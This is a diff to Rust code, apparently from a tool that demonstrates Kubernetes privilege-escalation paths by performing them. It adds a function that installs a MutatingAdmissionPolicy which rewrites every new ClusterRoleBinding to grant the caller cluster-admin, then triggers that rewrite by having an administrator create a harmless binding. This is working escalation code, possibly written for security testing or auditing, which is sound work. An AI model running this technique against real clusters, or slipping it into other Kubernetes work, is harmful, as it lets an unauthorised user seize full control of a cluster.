@@ -67,14 +67,39 @@ pub(in crate::paths) fn webhook(run: &mut Run, _: &Hop<'_>) -> Done {
     if let Ok(answers) = answers {
         run.cluster.change_webhooks(&answers);
     }
-    let made = run.name();
-    let binding = json!({
-        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": made},
-        "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "view"},
-        "subjects": [{"apiGroup": GROUP, "kind": "User", "name": "somebody-else"}],
+    run.administrator_binds()
+}
+
+/// The same by an admission policy, which needs no server.
+pub(in crate::paths) fn policy(run: &mut Run, _: &Hop<'_>) -> Done {
+    const ADMISSION: &str = "admissionregistration.k8s.io";
+    let name = run.name();
+    let path = run.collection(ADMISSION, "mutatingadmissionpolicies", "");
+    let version = path.split('/').nth(3).unwrap_or("v1").to_owned();
+    let me = format!("Object.subjects{{apiGroup: '{GROUP}', kind: 'User', name: '{}'}}", run.me.user.name);
+    let role = format!("Object.roleRef{{apiGroup: '{GROUP}', kind: 'ClusterRole', name: 'cluster-admin'}}");
+    let expression = format!(
+        "[JSONPatch{{op: 'replace', path: '/subjects', value: [{me}]}}, \
+         JSONPatch{{op: 'replace', path: '/roleRef', value: {role}}}]"
+    );
+    let policy = json!({
+        "apiVersion": format!("{ADMISSION}/{version}"), "kind": "MutatingAdmissionPolicy", "metadata": {"name": name},
+        "spec": {
+            "reinvocationPolicy": "Never",
+            "matchConstraints": {"resourceRules": [{
+                "apiGroups": [GROUP], "apiVersions": ["*"], "operations": ["CREATE"],
+                "resources": ["clusterrolebindings"],
+            }]},
+            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": expression}}],
+        },
     });
-    let path = run.collection(GROUP, "clusterrolebindings", "");
-    run.ask_as(Run::administrator(), "POST", &path, Some(&binding)).map(drop)
+    run.ask("POST", &path, Some(&policy))?;
+    let binding = json!({
+        "apiVersion": format!("{ADMISSION}/{version}"), "kind": "MutatingAdmissionPolicyBinding",
+        "metadata": {"name": name}, "spec": {"policyName": name},
+    });
+    run.ask("POST", &run.collection(ADMISSION, "mutatingadmissionpolicybindings", ""), Some(&binding))?;
+    run.administrator_binds()
 }
 
 /// Gives an object an owner that is not there: the garbage collector deletes it.
@@ -138,6 +163,18 @@ pub(in crate::paths) fn controller(run: &mut Run, hop: &Hop<'_>) -> Done {
 }
 
 impl Run {
+    /// An administrator binds somebody else to something harmless.
+    fn administrator_binds(&mut self) -> Done {
+        let made = self.name();
+        let binding = json!({
+            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": made},
+            "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "view"},
+            "subjects": [{"apiGroup": GROUP, "kind": "User", "name": "somebody-else"}],
+        });
+        let path = self.collection(GROUP, "clusterrolebindings", "");
+        self.ask_as(Run::administrator(), "POST", &path, Some(&binding)).map(drop)
+    }
+
     /// Sends the request that is asked about.
     pub(super) fn tries(&mut self, info: &RequestInfo) -> Done {
         let method = match info.verb.as_str() {
